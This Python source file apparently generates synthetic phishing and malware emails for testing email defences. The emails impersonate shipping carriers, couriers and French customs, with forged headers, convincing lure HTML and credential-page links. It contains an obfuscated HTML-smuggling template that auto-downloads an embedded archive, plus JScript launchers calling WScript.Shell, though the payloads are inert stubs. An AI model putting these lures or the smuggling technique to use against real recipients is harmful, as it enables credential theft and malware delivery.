<tr><td style="color:#6b7a85">Port of Discharge</td><td>Le Havre, FR</td></tr>
<tr><td style="color:#6b7a85">Documentation cut-off</td><td>14 Jan 2025, 16:00 CET</td></tr>
</table><br>
Please verify shipper, consignee and cargo details and approve the draft before the documentation cut-off. Amendments requested after cut-off are subject to a B/L correction fee of USD 75.
</td></tr>
<tr><td style="padding:24px 32px"><a href="{url}" style="background:#00243d;color:#ffffff;text-decoration:none;padding:12px 26px;font-size:14px;font-weight:bold;display:inline-block">Review draft B/L</a></td></tr>
<tr><td style="padding:0 32px 26px 32px;font-size:12px;color:#6b7a85;line-height:18px">This is a system generated message. Please do not reply to this e-mail.<br>A.P. Moller - Maersk A/S, Esplanaden 50, 1098 Copenhagen K, Denmark</td></tr>
</table></td></tr></table></body></html>
"""
    plain = ("Dear Customer,\n\nThe draft Bill of Lading for booking 258716493 (MAERSK KENTUCKY / 502W, Ningbo - Le Havre)"
             " has been issued and is awaiting your approval.\n\nDocumentation cut-off: 14 Jan 2025, 16:00 CET\n\n"
             f"Review draft B/L: {url}\n\nThis is a system generated message. Please do not reply to this e-mail.\n")
    host, ip = "mail.maersk-bldesk.com", "193.143.1.214"
    qid = postfix_qid(stem)
    headers = "\n".join([
        postfix_hop(f"[127.0.0.1] (localhost [127.0.0.1])", host, qid, rcpt, shift(t, 0), esmtp="ESMTPSA", cipher=False),
        dkim("maersk-bldesk.com", "default", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: Maersk Documentation <documentation@maersk-bldesk.com>",
        f"To: {rcpt}",
        subject("Draft B/L 258716493 - approval required before cut-off"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 32)}@maersk-bldesk.com>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Maersk draft bill-of-lading approval lure from the look-alike domain maersk-bldesk.com (own VPS, passes its own SPF/DKIM) linking to a credential page on pages.dev.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="maersk-bldesk.com", dkims=[("pass", "maersk-bldesk.com")],
            from_dom="maersk-bldesk.com", dmarc="bestguesspass", compauth="pass", reason="109",
            headers=headers, body=alt(plain, html, f"b1_{hx(stem + 'bd', 32)}"),
            return_path="<documentation@maersk-bldesk.com>")


def a_cmacgm_arrival_iso() -> None:
    stem = "b51-phish-cmacgm-arrival-iso"
    t = shift(paris("2025-02-04 08:57:40"), 7)
    rcpt = mail("import")
    iso = files.iso_image([("Arrival_Notice_CMAU4471823.exe", files.pe_stub())], "CMACGM_AN")
    plain = ("Dear Customer,\n\nPlease find attached the Arrival Notice for the below shipment.\n\n"
             "B/L No : CMDUSHZ1427781\nContainer : CMAU 4471823 (40HC)\nVessel : CMA CGM JACQUES SAADE 0MEB9W1MA\n"
             "ETA Le Havre : 07/02/2025\n\nKindly check the attached document and arrange customs clearance in time to avoid"
             " storage and demurrage charges.\n\nBest regards,\n\nImport Customer Service\nCMA CGM Agency\n")
    body = Multi("mixed", f"----=_NextPart_000_0001_{hx(stem, 8, True)}.{hx(stem + '2', 8, True)}", [
        text(plain, "plain", "7bit", "us-ascii"),
        Leaf("application/octet-stream", iso, "base64", '; name="ARRIVAL_NOTICE_CMAU4471823.iso"',
             'attachment; filename="ARRIVAL_NOTICE_CMAU4471823.iso"'),
    ])
    by = "sv3.vnhost-cloud.vn"
    headers = "\n".join([
        exim_hop("DESKTOP-7QK2M9R", "113.161.74.208", by, t, stem, auth="ops@vinatranslog.com.vn",
                 rcpt=rcpt),
        dkim("vinatranslog.com.vn", "default", t,
             "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To:Cc:Content-Transfer-Encoding:Content-ID:Content-Description:Resent-Date:Resent-From:Resent-Sender:Resent-To:Resent-Cc:Resent-Message-ID:In-Reply-To:References:List-Id:List-Help:List-Unsubscribe:List-Subscribe:List-Post:List-Owner:List-Archive",
             stem, c="relaxed/relaxed", q=True),
        'From: "CMA CGM | Arrival Notice" <ops@vinatranslog.com.vn>',
        f"To: {rcpt}",
        "Subject: Arrival Notice - CMAU4471823 / CMA CGM JACQUES SAADE - ETA LE HAVRE 07/02",
        f"Date: {rfc(t)}",
        f"Message-ID: <000001db76f2${hx(stem + 'm1', 8)}${hx(stem + 'm2', 8)}@vinatranslog.com.vn>",
        "X-Mailer: Microsoft Outlook 16.0",
        "Thread-Index: " + thread_index(stem, t, 0),
        "Content-Language: en-us",
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        f"X-AntiAbuse: Primary Hostname - {by}",
        "X-AntiAbuse: Original Domain - kerlann-industries.fr",
        "X-AntiAbuse: Sender Address Domain - vinatranslog.com.vn",
        "X-Get-Message-Sender-Via: sv3.vnhost-cloud.vn: authenticated_id: ops@vinatranslog.com.vn",
        "X-Authenticated-Sender: sv3.vnhost-cloud.vn: ops@vinatranslog.com.vn",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "malware",
            "Fake CMA CGM arrival notice sent from a compromised Vietnamese forwarder's cPanel mailbox, carrying an ISO disc image that holds an executable disguised as the notice.",
            t=t, helo=by, ip="103.221.222.57", spf="pass", mailfrom="vinatranslog.com.vn",
            dkims=[("pass", "vinatranslog.com.vn")], from_dom="vinatranslog.com.vn", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers, body=body, attach=True,
            return_path="<ops@vinatranslog.com.vn>", tls="TLS1_2")


def a_msc_release_hold() -> None:
    stem = "b51-phish-msc-release-hold"
    t = paris("2025-03-18 15:06:51")
    rcpt = mail("import")
    url = "https://pub-3f8e1c5a0b9d4e7fa21c6d0e9b8a7f64.r2.dev/mymsc/release.html#aW1wb3J0QGtlcmxhbm4taW5kdXN0cmllcy5mcg=="
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<div style="max-width:620px;margin:0 auto;border:1px solid #d9d9d9">
<div style="background:#000;padding:14px 20px"><img src="https://www.msc.com/-/media/images/msc-logo-white.png" alt="MSC" height="28"></div>
<div style="padding:22px 24px;line-height:1.5">
<p>Dear Valued Customer,</p>
<p>Please be informed that the following import shipment has been discharged at <b>Le Havre - Terminal de France</b> and the cargo release is currently <b style="color:#b00">ON HOLD</b>.</p>
<table style="font-size:13px;border-collapse:collapse" cellpadding="5">
<tr><td style="background:#f4f4f4">Bill of Lading</td><td>MEDUF8834120</td></tr>
<tr><td style="background:#f4f4f4">Container</td><td>MSDU 7712045 / 40' HC</td></tr>
<tr><td style="background:#f4f4f4">Reason</td><td>Outstanding local charges (THC, DTHC, BL fee)</td></tr>
<tr><td style="background:#f4f4f4">Amount due</td><td>EUR 486,20</td></tr>
</table>
<p>To avoid storage charges starting from <b>21/03/2025</b>, please log in to myMSC to review the invoice and settle the outstanding amount.</p>
<p style="margin:24px 0"><a href="{url}" style="background:#b4975a;color:#fff;padding:11px 24px;text-decoration:none;font-weight:bold">Access myMSC</a></p>
<p>Kind regards,<br>MSC France - Import Customer Service</p>
</div>
<div style="background:#f4f4f4;padding:10px 24px;font-size:11px;color:#777">MSC Mediterranean Shipping Company S.A. - This mailbox is not monitored.</div>
</div></body></html>
"""
    ses_id = f"0102019{hx(stem + 's1', 9)}-{hx(stem + 's2', 8)}-{hx(stem + 's3', 4)}-{hx(stem + 's4', 4)}-{hx(stem + 's5', 4)}-{hx(stem + 's6', 12)}-000000"
    ip = "54.240.6.41"
    helo = "a6-41.smtp-out.eu-west-1.amazonses.com"
    headers = "\n".join([
        dkim("msc-myshipment.com", "x4kqz2n7vfl3hs5tq2oc5bbyd6l7wm3e", t,
             "Content-Type:Subject:From:To:Date:MIME-Version:Message-ID", stem, c="relaxed/simple", q=True),
        dkim("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", t,
             "Content-Type:Subject:From:To:Date:MIME-Version:Message-ID:Feedback-ID", stem + "ses", c="relaxed/simple", q=True),
        subject("Cargo release on hold - BL MEDUF8834120 - outstanding charges"),
        "From: MSC Customer Service <customerservice@msc-myshipment.com>",
        f"To: {rcpt}",
        f"Date: {rfc(utc(t))}",
        "MIME-Version: 1.0",
        f"Message-ID: <{ses_id}@eu-west-1.amazonses.com>",
        f"Feedback-ID: ::1.eu-west-1.{b64(stem + 'fb', 30)[:40]}=:AmazonSES",
        f"X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-{ip}",
    ])
    deliver(stem, "phishing",
            "MSC 'cargo release on hold, outstanding local charges' lure sent through Amazon SES from the look-alike msc-myshipment.com, linking to a myMSC credential page on Cloudflare R2.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="eu-west-1.amazonses.com",
            dkims=[("pass", "msc-myshipment.com"), ("pass", "amazonses.com")], from_dom="msc-myshipment.com",
            dmarc="bestguesspass", compauth="pass", reason="109", headers=headers,
            body=Leaf("text/html", html.encode(), "quoted-printable", '; charset=UTF-8'),
            return_path=f"<{ses_id}@eu-west-1.amazonses.com>")


def _smuggle_html(zip_bytes: bytes, name: str, title: str, lines: list[str]) -> bytes:
    data = base64.b64encode(zip_bytes).decode()
    parts = [data[i:i + 96] for i in range(0, len(data), 96)]
    joined = "\n".join(f'  "{p}"+' for p in parts).rstrip("+")
    body = "".join(f"<p>{line}</p>" for line in lines)
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{title}</title>
<style>body{{font-family:Segoe UI,Arial;background:#eef1f4;margin:0}}.c{{max-width:520px;margin:60px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 2px 8px #0002}}</style>
</head><body><div class="c"><h2 style="color:#f60">{title}</h2>{body}
<p id="s" style="color:#666;font-size:13px">Preparing document, please wait...</p></div>
<script>
var _0x4b1a=
{joined};
function _0xd(b){{var s=atob(b),n=s.length,u=new Uint8Array(n);while(n--){{u[n]=s.charCodeAt(n);}}return u;}}
var _0xb=new Blob([_0xd(_0x4b1a)],{{type:"application/octet-stream"}});
var _0xa=document.createElement("a");document.body.appendChild(_0xa);_0xa.style="display:none";
var _0xu=window.URL.createObjectURL(_0xb);_0xa.href=_0xu;_0xa.download="{name}";_0xa.click();
window.URL.revokeObjectURL(_0xu);
document.getElementById("s").innerText="Your download has started. Open the file to view the document.";
</script></body></html>
""".encode()


def a_hapag_waybill_smuggling() -> None:
    stem = "b51-phish-hapag-waybill-smuggling"
    t = shift(paris("2025-04-08 11:23:05"), 3)
    rcpt = mail("import")
    js = ("// Sea Waybill viewer\nvar a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74','\\x53\\x68\\x65\\x6c\\x6c'];\n"
          "var o=new ActiveXObject(a[0]+'.'+a[1]);\n"
          "var p=['cmd','/c','exit','0'].join(' ');\n"
          "o.Run(p,0,false);\n").encode()
    zipped = files.zip_archive([("SWB_HLCUIZ1250412345.js", js)])
    html_att = _smuggle_html(zipped, "SWB_HLCUIZ1250412345.zip", "Hapag-Lloyd Sea Waybill",
                             ["Sea Waybill HLCUIZ1250412345", "Shipper: Anatolia Lojistik A.S. / Consignee: Kerlann Industries"])
    plain = ("Dear Sir / Madam,\n\nAttached is the Sea Waybill copy for your shipment HLCUIZ1250412345 (Izmir - Le Havre),"
             " vessel ANTWERPEN EXPRESS 2514W.\nPlease open the attached document in your browser to view and download"
             " the waybill, and confirm receipt.\n\nBest Regards\n\nMehmet Yilmaz\nExport Operations\nAnatolia Lojistik A.S. | Izmir\n"
             "Tel: +90 232 464 18 20\n")
    body = Multi("mixed", f"=_{hx(stem, 32)}", [
        text(plain, "plain", "quoted-printable", "UTF-8"),
        Leaf("text/html", html_att, "base64", '; name="SWB_HLCUIZ1250412345.html"',
             'attachment; filename="SWB_HLCUIZ1250412345.html"'),
    ])
    by = "srv-mail.anatolialojistik.com.tr"
    headers = "\n".join([
        postfix_hop(f"webmail.anatolialojistik.com.tr (unknown [78.188.41.116])", by, postfix_qid(stem), rcpt, t,
                    esmtp="ESMTPSA", zone="+03"),
        dkim("anatolialojistik.com.tr", "mail", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "MIME-Version: 1.0",
        f"Date: {rfc(t)}",
        "From: Hapag-Lloyd Sea Waybill <export@anatolialojistik.com.tr>",
        f"To: {rcpt}",
        "Subject: Sea Waybill HLCUIZ1250412345 - ANTWERPEN EXPRESS 2514W",
        f"Message-ID: <{hx(stem + 'mid', 32)}@anatolialojistik.com.tr>",
        "X-Sender: export@anatolialojistik.com.tr",
        "User-Agent: Roundcube Webmail/1.6.9",
    ])
    deliver(stem, "malware",
            "Hapag-Lloyd sea-waybill lure from a compromised Turkish forwarder mailbox; the HTML attachment smuggles a ZIP holding a JScript file that starts WScript.Shell.",
            t=t, helo=by, ip="185.86.12.77", spf="pass", mailfrom="anatolialojistik.com.tr",
            dkims=[("pass", "anatolialojistik.com.tr")], from_dom="anatolialojistik.com.tr", dmarc="pass",
            compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<export@anatolialojistik.com.tr>")


def a_dhl_droits_douane() -> None:
    stem = "b51-phish-dhl-droits-douane"
    t = paris("2025-05-06 07:31:12")
    rcpt = mail("exploit")
    url = "https://t.ly/dHx4Q"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#ffffff">
<div style="background:#ffcc00;padding:16px 24px"><img src="https://www.dhl.com/content/dam/dhl/global/core/images/logos/dhl-logo.svg" alt="DHL" width="120"></div>
<div style="font-family:Frutiger,Arial,sans-serif;font-size:15px;color:#333;padding:24px;max-width:560px">
<p>Bonjour,</p>
<p>Votre envoi <b>n&deg; 4587219630</b> est arriv&eacute; au centre de d&eacute;douanement de Roissy CDG.</p>
<p>Des droits et taxes d'un montant de <b>2,99 &euro;</b> restent &agrave; r&eacute;gler avant la livraison. Sans r&egrave;glement sous 48 heures, l'envoi sera retourn&eacute; &agrave; l'exp&eacute;diteur.</p>
<p style="margin:26px 0"><a href="{url}" style="background:#d40511;color:#fff;padding:12px 22px;text-decoration:none;border-radius:4px">Payer et programmer la livraison</a></p>
<p style="font-size:12px;color:#888">DHL Express France - Ceci est un message automatique.</p>
</div></body></html>
"""
    by = "cp-fr12.o2switch.net"
    headers = "\n".join([
        exim_hop("localhost", "109.234.161.88", by, t, stem, auth="contact@domaine-de-kervoas.fr", rcpt=rcpt),
        dkim("domaine-de-kervoas.fr", "default", t,
             "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:Subject:From:To:Date:Sender:Reply-To:Cc:Content-ID:Content-Description:Resent-Date:Resent-From:Resent-Sender:Resent-To:Resent-Cc:Resent-Message-ID:In-Reply-To:References:List-Id:List-Help:List-Unsubscribe:List-Subscribe:List-Post:List-Owner:List-Archive",
             stem, q=True),
        f"Date: {rfc(t)}",
        f"To: {rcpt}",
        "From: " + addr("DHL Express", "contact@domaine-de-kervoas.fr"),
        subject("Votre envoi DHL 4587219630 : droits et taxes à régler", "UTF-8", "B"),
        f"Message-ID: <{b64url(stem + 'mid', 30)}@domaine-de-kervoas.fr>",
        "X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        f"X-AntiAbuse: Primary Hostname - {by}",
        "X-AntiAbuse: Original Domain - kerlann-industries.fr",
        "X-AntiAbuse: Originator/Caller UID/GID - [1412 991] / [47 12]",
        "X-AntiAbuse: Sender Address Domain - domaine-de-kervoas.fr",
        "X-Get-Message-Sender-Via: cp-fr12.o2switch.net: authenticated_id: kervoas/from_h",
        "X-Authenticated-Sender: cp-fr12.o2switch.net: contact@domaine-de-kervoas.fr",
    ])
    deliver(stem, "phishing",
            "DHL Express 'duties of 2,99 EUR to pay' lure sent from a hacked gîte website's cPanel mailbox under a DHL display name, with a t.ly short link to a card-harvesting page.",
            t=t, helo=by, ip="109.234.161.88", spf="pass", mailfrom="domaine-de-kervoas.fr",
            dkims=[("pass", "domaine-de-kervoas.fr")], from_dom="domaine-de-kervoas.fr", dmarc="none",
            compauth="pass", reason="109", headers=headers,
            body=Leaf("text/html", html.encode(), "quoted-printable", '; charset=utf-8'),
            return_path="<contact@domaine-de-kervoas.fr>")


def a_chronopost_livraison() -> None:
    stem = "b51-phish-chronopost-livraison"
    t = paris("2025-06-10 18:12:44")
    rcpt = mail("affret")
    url = "https://www.gite-les-hortensias-morbihan.fr/wp-content/uploads/2025/05/cp/suivi.php?colis=XW483917125JB"
    html = f"""<!doctype html><html lang="fr"><head><meta charset="utf-8"></head>
<body style="margin:0;padding:0;background:#f5f5f5">
<table width="100%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center">
<table width="580" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,Helvetica,sans-serif">
<tr><td style="padding:18px 24px;border-bottom:3px solid #009ee0"><img src="https://www.chronopost.fr/sites/chronopost/themes/custom/chronopost/images/chronopost_logo.png" alt="Chronopost" width="150"></td></tr>
<tr><td style="padding:24px;font-size:14px;color:#3c3c3b;line-height:22px">
<p style="font-size:18px;color:#009ee0;margin:0 0 14px 0"><b>Votre colis n'a pas pu &ecirc;tre livr&eacute;</b></p>
<p>Bonjour,</p>
<p>Notre livreur s'est pr&eacute;sent&eacute; aujourd'hui mais n'a pas pu remettre votre colis <b>XW483917125JB</b> : l'adresse de livraison est incompl&egrave;te.</p>
<p>Merci de confirmer votre adresse et de choisir un nouveau cr&eacute;neau. Des frais de repr&eacute;sentation de 1,49 &euro; s'appliquent.</p>
<p style="text-align:center;margin:26px 0"><a href="{url}" style="background:#e2001a;color:#fff;text-decoration:none;padding:12px 28px;border-radius:22px;font-weight:bold">Reprogrammer ma livraison</a></p>
<p style="font-size:12px;color:#888">Sans action de votre part sous 72h, le colis sera retourn&eacute; &agrave; l'exp&eacute;diteur.</p>
</td></tr>
<tr><td style="padding:14px 24px;background:#3c3c3b;color:#bbb;font-size:11px">Chronopost SAS - 3 boulevard Romain Rolland, 75014 Paris</td></tr>
</table></td></tr></table></body></html>
"""
    host = "mail.chronopost-avis-livraison.fr"
    headers = "\n".join([
        postfix_hop("localhost (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTP", cipher=False),
        dkim("chronopost-avis-livraison.fr", "mail", t, "Date:To:From:Subject:Message-ID:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        f"To: {rcpt}",
        "From: Chronopost <suivi@chronopost-avis-livraison.fr>",
        subject("Votre colis XW483917125JB n'a pas pu être livré", "UTF-8", "B"),
        f"Message-ID: <{hx(stem + 'mid', 32)}@chronopost-avis-livraison.fr>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Chronopost failed-delivery lure ('adresse incomplète, frais de 1,49 EUR') from the look-alike chronopost-avis-livraison.fr, linking into a phishing kit on a hacked WordPress site.",
            t=t, helo=host, ip="45.141.215.83", spf="pass", mailfrom="chronopost-avis-livraison.fr",
            dkims=[("pass", "chronopost-avis-livraison.fr")], from_dom="chronopost-avis-livraison.fr",
            dmarc="bestguesspass", compauth="pass", reason="109", headers=headers,
            body=Leaf("text/html", html.encode(), "8bit", '; charset=utf-8'),
            return_path="<suivi@chronopost-avis-livraison.fr>")


def a_tnt_invoice_js() -> None:
    stem = "b51-phish-tnt-invoice-js"
    t = paris("2025-07-02 09:48:03")
    rcpt = mail("compta")
    js = ("/* FedEx TNT e-invoice viewer */\n"
          "var _s = ['WScript', 'Shell', 'Scripting', 'FileSystemObject'];\n"
          "var sh = WScript.CreateObject(_s[0] + '.' + _s[1]);\n"
          "var fso = WScript.CreateObject(_s[2] + '.' + _s[3]);\n"
          "var tmp = sh.ExpandEnvironmentStrings('%TEMP%');\n"
          "sh.Run('cmd.exe /c exit 0', 0, false);\n").encode()
    zipped = files.zip_archive([("TNT_Invoice_FR250719882.js", js)])
    plain = ("Dear customer,\n\nPlease find attached your invoice FR250719882 for TNT shipments processed in June 2025.\n\n"
             "Amount due: EUR 1,284.60\nDue date: 31/07/2025\n\nThe invoice is provided as a compressed file.\n\n"
             "Kind regards,\nFedEx Express | TNT - Billing Department\n")
    html = ("<html><body style=\"font-family:Arial;font-size:13px\"><p>Dear customer,</p><p>Please find attached your invoice "
            "<b>FR250719882</b> for TNT shipments processed in June 2025.</p><p>Amount due: EUR 1,284.60<br>Due date: 31/07/2025</p>"
            "<p>The invoice is provided as a compressed file.</p><p>Kind regards,<br>FedEx Express | TNT - Billing Department</p>"
            "<p style=\"color:#4d148c;font-weight:bold\">FedEx</p></body></html>\n")
    body = Multi("mixed", f"b1=_{b64url(stem, 30)}", [
        alt(plain, html, f"b2=_{b64url(stem + 'a', 30)}"),
        attachment("application/zip", "TNT_Invoice_FR250719882.zip", zipped),
    ])
    host = "mx1.tnt-fedex-invoices.com"
    headers = "\n".join([
        postfix_hop("localhost (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, shift(t, 0), esmtp="ESMTP", cipher=False),
        dkim("tnt-fedex-invoices.com", "s1", t, "Date:To:From:Subject:Message-ID:MIME-Version:Content-Type", stem),
        f"Date: {rfc(shift(t, 0))}",
        f"To: {rcpt}",
        "From: FedEx TNT Billing <billing@tnt-fedex-invoices.com>",
        "Subject: TNT Invoice FR250719882 - June 2025",
        f"Message-ID: <{hx(stem + 'mid', 32)}@tnt-fedex-invoices.com>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "malware",
            "TNT/FedEx invoice lure from the look-alike tnt-fedex-invoices.com with a zipped JScript 'invoice' that runs WScript.Shell.",
            t=t, helo=host, ip="91.92.243.19", spf="pass", mailfrom="tnt-fedex-invoices.com",
            dkims=[("pass", "tnt-fedex-invoices.com")], from_dom="tnt-fedex-invoices.com", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers, body=body, attach=True,
            return_path="<billing@tnt-fedex-invoices.com>")


def a_fedex_adresse_qr() -> None:
    stem = "b51-phish-fedex-adresse-qr"
    t = paris("2025-08-19 12:05:39")
    rcpt = mail("exploit")
    qr_url = "https://fedex-fr-redelivery.web.app/?t=779412853306&r=" + b64url(stem + "r", 9)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#f2f2f2">
<table width="100%" cellspacing="0" cellpadding="0"><tr><td align="center" style="padding:20px 0">
<table width="560" cellspacing="0" cellpadding="0" style="background:#ffffff;font-family:Arial,sans-serif;color:#333">
<tr><td style="padding:20px 28px"><span style="font-size:30px;font-weight:bold;color:#4d148c">Fed</span><span style="font-size:30px;font-weight:bold;color:#ff6200">Ex</span></td></tr>
<tr><td style="padding:0 28px;font-size:15px;line-height:22px">
<p><b>Livraison suspendue - adresse &agrave; confirmer</b></p>
<p>Votre colis <b>779412853306</b> ne peut pas &ecirc;tre livr&eacute; car le code postal indiqu&eacute; ne correspond pas &agrave; l'adresse du destinataire.</p>
<p>Scannez le code ci-dessous avec votre t&eacute;l&eacute;phone pour confirmer l'adresse et choisir une date de livraison.</p>
<p style="text-align:center"><img src="cid:qr779412853306" width="180" height="180" alt="QR"></p>
<p style="font-size:12px;color:#777">Le colis sera conserv&eacute; 5 jours ouvr&eacute;s dans notre agence de Saint-Jacques-de-la-Lande.</p>
</td></tr>
<tr><td style="padding:18px 28px;font-size:11px;color:#999">&copy; FedEx 1995-2025. Ce message a &eacute;t&eacute; envoy&eacute; automatiquement.</td></tr>
</table></td></tr></table>
<img src="http://qkwpf.mjt.lu/oo/BAAAAGZ-7sEAAAAAAAAAAAQyAAAAAAAAAAAAAAAAABV1cgBm8r1p/4a1c2d3e/e.gif" height="1" width="1" alt="" border="0" style="height:1px;width:1px;border:0;">
</body></html>
"""
    plain = ("Livraison suspendue - adresse a confirmer\n\nVotre colis 779412853306 ne peut pas etre livre car le code postal"
             " indique ne correspond pas a l'adresse du destinataire.\nScannez le code QR joint pour confirmer l'adresse.\n")
    body = Multi("mixed", f"=-{b64url(stem, 18)}", [
        Multi("related", f"=-{b64url(stem + 'r', 18)}", [
            alt(plain, html, f"=-{b64url(stem + 'a', 18)}"),
            Leaf("image/png", files.qr_png(qr_url), "base64", '; name="qr.png"', 'inline; filename="qr.png"',
                 ["Content-ID: <qr779412853306>"]),
        ], params=' type="multipart/alternative";'),
    ])
    mj = f"o{num(stem + 'o', 100, 250)}.p25.mailjet.com"
    ip = f"87.253.233.{num(stem + 'o', 100, 250)}"
    headers = "\n".join([
        dkim("fedex-livraisons.info", "mailjet", t, "Message-Id:Date:Subject:From:To:MIME-Version:Content-Type", stem, q=True),
        dkim("mailjet.com", "mailjet", t, "Message-Id:Date:Subject:From:To:MIME-Version:Content-Type:Feedback-Id", stem + "mj", q=True),
        f"Message-Id: <{hx(stem + 'mid', 8)}.AWQAAFd{b64url(stem + 'mj', 18)}@mailjet.com>",
        f"Date: {rfc(utc(t))}",
        subject("Votre livraison FedEx 779412853306 est suspendue", "utf-8", "Q"),
        "From: FedEx France <notification@fedex-livraisons.info>",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        f"X-Feedback-Id: 42.{num(stem + 'fb', 4000000, 4999999)}.{num(stem + 'fb2', 3000000, 3999999)}:MJ",
        f"X-MJ-Mid: AAAAAGZ-{b64url(stem + 'mjid', 24)}",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"List-Unsubscribe: <mailto:unsub-{hx(stem + 'u', 8)}@bnc3.mailjet.com>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
    ])
    deliver(stem, "phishing",
            "FedEx 'delivery suspended, confirm address' notice sent through Mailjet from the look-alike fedex-livraisons.info, with the link only inside an inline QR code pointing to a web.app page.",
            t=t, helo=mj, ip=ip, spf="pass", mailfrom=f"bnc3.mailjet.com",
            dkims=[("pass", "fedex-livraisons.info"), ("pass", "mailjet.com")], from_dom="fedex-livraisons.info",
            dmarc="bestguesspass", compauth="pass", reason="109", headers=headers, body=body,
            return_path=f"<{hx(stem + 'bn', 10)}.{num(stem, 100000, 999999)}.{num(stem + 'x', 1000000, 9999999)}@bnc3.mailjet.com>")


# ---------------------------------------------------------------- customs and tax


def _gouv_html(header_title: str, paras: list[str], button: tuple[str, str] | None, footer: str,
               marianne: str = "https://www.douane.gouv.fr/themes/custom/douane/logo.svg") -> str:
    ps = "\n".join(f'<p style="margin:0 0 14px 0">{p}</p>' for p in paras)
    btn = ""
    if button:
        btn = (f'<p style="margin:22px 0"><a href="{button[1]}" style="background:#000091;color:#ffffff;'
               f'text-decoration:none;padding:10px 20px;font-weight:bold">{button[0]}</a></p>')
    return f"""<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>{header_title}</title></head>
<body style="margin:0;padding:0;background:#f6f6f6;font-family:Marianne,Arial,sans-serif;color:#161616">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 0">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:18px 28px;border-bottom:1px solid #dddddd">
<img src="{marianne}" alt="R&eacute;publique Fran&ccedil;aise" height="56" style="vertical-align:middle">
<span style="font-size:17px;font-weight:bold;margin-left:14px;vertical-align:middle">{header_title}</span></td></tr>
<tr><td style="padding:24px 28px;font-size:15px;line-height:23px">
{ps}
{btn}
</td></tr>
<tr><td style="padding:14px 28px;background:#eeeeee;font-size:12px;color:#666666">{footer}</td></tr>
</table></td></tr></table></body></html>
"""


def a_douane_delta_rejet() -> None:
    stem = "b51-phish-douane-delta-rejet"
    t = paris("2025-09-09 14:22:08")
    rcpt = mail("douane")
    url = "https://douane-finances-gouv.fr/portail/delta/connexion?dossier=25FR000312847921&ref=kerlann"
    html = _gouv_html("douane.gouv.fr - DELTA G", [
        "Madame, Monsieur,",
        "Votre d&eacute;claration en douane <b>MRN 25FR000312847921</b> d&eacute;pos&eacute;e le 08/09/2025 via DELTA G a &eacute;t&eacute; "
        "<b>rejet&eacute;e</b> (code erreur E-412 : incoh&eacute;rence de la valeur en douane et du num&eacute;ro EORI du d&eacute;clarant).",
        "Afin d'&eacute;viter l'immobilisation de la marchandise et l'application de frais de magasinage, vous devez r&eacute;gulariser "
        "la d&eacute;claration depuis votre espace professionnel dans un d&eacute;lai de 24 heures.",
        "Cordialement,<br>Le Service des Douanes - P&ocirc;le DELTA",
    ], ("R&eacute;gulariser la d&eacute;claration", url),
        "Direction g&eacute;n&eacute;rale des douanes et droits indirects - Ce courriel est envoy&eacute; automatiquement, merci de ne pas y r&eacute;pondre.")
    host = "mail.douane-finances-gouv.fr"
    headers = "\n".join([
        postfix_hop("[127.0.0.1] (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA", cipher=False),
        dkim("douane-finances-gouv.fr", "mail", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: " + addr("douane.gouv.fr - DELTA", "ne-pas-repondre@douane-finances-gouv.fr", quote=True),
        f"To: {rcpt}",
        subject("DELTA G : rejet de votre déclaration MRN 25FR000312847921 - régularisation sous 24h"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 24)}@douane-finances-gouv.fr>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Fake DELTA G customs rejection ('MRN rejetée, régulariser sous 24h') from the look-alike douane-finances-gouv.fr, linking to a fake douane.gouv.fr professional login on the same domain.",
            t=t, helo=host, ip="80.78.30.112", spf="pass", mailfrom="douane-finances-gouv.fr",
            dkims=[("pass", "douane-finances-gouv.fr")], from_dom="douane-finances-gouv.fr", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers,
